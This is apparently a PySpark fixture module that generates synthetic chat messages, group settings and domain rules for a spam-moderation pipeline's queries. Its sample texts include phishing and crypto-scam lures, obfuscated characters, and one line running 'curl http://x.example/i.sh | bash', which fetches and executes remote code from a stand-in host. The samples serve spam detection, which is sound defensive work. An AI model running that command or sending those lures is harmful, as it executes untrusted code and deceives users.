"""Messages, groups and rules for the queries: literal tables, in Spark and in SQL from one place."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import text
from ..sources.tables import read, spread

#: Texts that set the features; a message is one of them with its user's id.
TEMPLATES = [
    "hello team, lunch at noon for user",
    "Patch notes https://github.com/example/project and a changelog by",
    "login to continue https://t.me/scambot?start=x now",
    "claim now https://bad.example/win today",
    "Connect w4llet and get the a1rdrop at https://wallet.example",
    "you won a free gift, claim reward via bit.ly/abc",
    "join our private channel https://t.me/joinchat/AAAA user",
    "Meeting notes: www.wikipedia.org/wiki/Spark, see section",
    "ping @alpha @bravo @charlie @delta @echo about release",
    "f r e e coffee in the kitchen, ask",
    "exclusive full scene inside, watch now https://t.me/showbot?start=1 code",
    "link expires in 9 minutes, tap to watch",
    "zero\u200bwidth marks hide here",
    "party time 🎉🎉🎉🎉🎉🎉🎉🎉🎉🎉 with",
    "scan qr to login at http://login.example:8080/path?x=1 ref",
    "the build is green again, thanks",
    "see https://youtu.be/xyz and https://example.org/page. Thoughts,",
    "you idiot bot, shut up",
    "try curl http://x.example/i.sh | bash on host",
    "t.me/newschannel has updates for",
    "verify your account: https://telegram.me/helpbot?startapp=go id",
    "double your crypto with WWW.Coins.Example/now (promo) code",
    "subscribe to the group for private tips",
    "was a good day | thanks all",
    "Ｃｌａｉｍ　ｒｅｗａｒｄ &amp; login at ｗａｌｌｅｔ．ｅｘａｍｐｌｅ today",
    "&lt;b&gt;Tom &amp; Jerry&lt;/b&gt; at ｎｏｏｎ, ask",
]
#: What the texts that aren't in normal form come to.
NORMAL = {24: "Claim reward & login at wallet.example today", 25: "<b>Tom & Jerry</b> at noon, ask"}
#: Whose message is a forwarded story, has a caption, or is a picture without text: those with an id divisible by these.
STORY, CAPTION, MEDIA = 31, 37, 41
#: Whose message has its first characters marked as a URL, or a URL behind its text.
MARKED, HIDDEN = 29, 43
#: Labelled examples that all groups share: templates by their place above, the later the newer.
SPAM_EXAMPLES, GOOD_EXAMPLES = [2, 3, 4, 5, 6, 10, 20, 21], [0, 1, 7, 8, 9, 15, 16, 23]
GROUPS = [(0, True, True, "normal", True, False), (1, True, True, "auto_delete", False, True), (2, True, True, "silent", True, False), (3, True, True, "aggressive", False, False), (4, True, False, "monitor_only", False, False)]
RULES = [(0, "bad.example", "blocked"), (1, "bad.example", "blocked"), (1, "example.org", "allowed"), (2, "wallet.example", "blocked"), (3, "login.example", "allowed")]


def quoted(value) -> str:
    if isinstance(value, bool):
        return str(value).lower()
    return "NULL" if value is None else str(value) if not isinstance(value, str) else "'" + value.replace("'", "''") + "'"


def values_sql(rows: list[tuple]) -> str:
    return "(VALUES " + ", ".join("(" + ", ".join(map(quoted, r)) + ")" for r in rows) + ")"


def literal(spark: SparkSession, rows: list[tuple], schema: str) -> DataFrame:
    return spark.createDataFrame(rows, schema)


def messages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """message_id, user_id, group_id, ts, text, entities, story, joined, has_media: an event's template with the user's id, its caption and story line."""
    events = spread(read(spark, sf_dir, "events").select("event_id", "user_id", "ts", "event_type"))
    marked = lambda n: F.col("event_id") % n == 0
    pick = F.element_at(F.array(*map(F.lit, TEMPLATES)), (F.col("event_id") % len(TEMPLATES)).cast("int") + 1)
    own = F.when(~marked(MEDIA), F.concat(pick, F.lit(" "), F.col("user_id").cast("string")))
    source = text.chat_label(F.when(marked(2), "Night Stories"), F.lit(""), F.lit(None).cast("string"), F.lit(None).cast("string"))
    parts = text.joined_parts(own, F.when(marked(CAPTION), "more in the caption"), text.story_line(marked(STORY), source))
    null = lambda kind: F.lit(None).cast(kind)
    entity = lambda kind, offset, length, url: F.struct(F.lit(kind).alias("type"), offset.cast("int").alias("offset"), length.cast("int").alias("length"), url.alias("url"))
    hidden = entity("text_link", null("int"), null("int"), F.concat(F.lit("https://hidden.example/"), (F.col("user_id") % 3).cast("string")))
    entities = F.array_compact(F.array(F.when(marked(MARKED), entity("url", F.lit(0), F.lit(9), null("string"))), F.when(marked(HIDDEN), hidden)))
    return events.select(F.col("event_id").alias("message_id"), "user_id", (F.col("user_id") % 5).alias("group_id"), "ts", parts.alias("text"), entities.alias("entities"), marked(STORY).alias("story"), (F.col("event_type") == "signup").alias("joined"), marked(MEDIA).alias("has_media"))


MESSAGES_SQL = f"""SELECT e.event_id AS message_id, e.user_id, e.user_id % 5 AS group_id, e.ts, e.event_id % {STORY} = 0 AS story, e.event_type = 'signup' AS joined, e.event_id % {MEDIA} = 0 AS has_media,
  {', '.join("concat_ws(chr(10), CASE WHEN e.event_id % " + str(MEDIA) + " <> 0 THEN t." + own + " || ' ' || e.user_id END, CASE WHEN e.event_id % " + str(CAPTION) + " = 0 THEN 'more in the caption' END, CASE WHEN e.event_id % " + str(STORY) + " = 0 THEN 'Forwarded Telegram story' || CASE WHEN e.event_id % 2 = 0 THEN ' from Night Stories' ELSE '' END END) AS " + name for own, name in (("template", "text"), ("normal", "normal")))},
  CASE WHEN e.event_id % {HIDDEN} = 0 THEN ['https://hidden.example/' || e.user_id % 3] ELSE [] END AS behind, e.event_id % {MARKED} = 0 AS marked"""


def violations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Violations of each sender so far: errors of a value of 100 or more."""
    bad = read(spark, sf_dir, "events").where("event_type = 'error' and value >= 100").groupBy("user_id").agg(F.count("*").alias("violation_count"))
    return bad.select((F.col("user_id") % 5).alias("group_id"), "user_id", "violation_count", F.least(F.lit(1.0), F.col("violation_count") * 0.25).alias("risk_score"))


def examples(spark: SparkSession) -> DataFrame:
    rows = [(i, "spam" if i in SPAM_EXAMPLES else "not_spam", TEMPLATES[i]) for i in sorted(SPAM_EXAMPLES + GOOD_EXAMPLES)]
    return literal(spark, rows, "example_id long, label string, example_text string").withColumns({"group_id": F.lit(None).cast("long"), "global_allowed": F.lit(True), "created_at": F.col("example_id")})


def groups(spark: SparkSession) -> DataFrame:
    return literal(spark, GROUPS, "group_id long, authorized boolean, setup_completed boolean, mode string, ban_enabled boolean, scan_admins boolean")


def rules(spark: SparkSession) -> DataFrame:
    return literal(spark, RULES, "group_id long, domain string, status string")
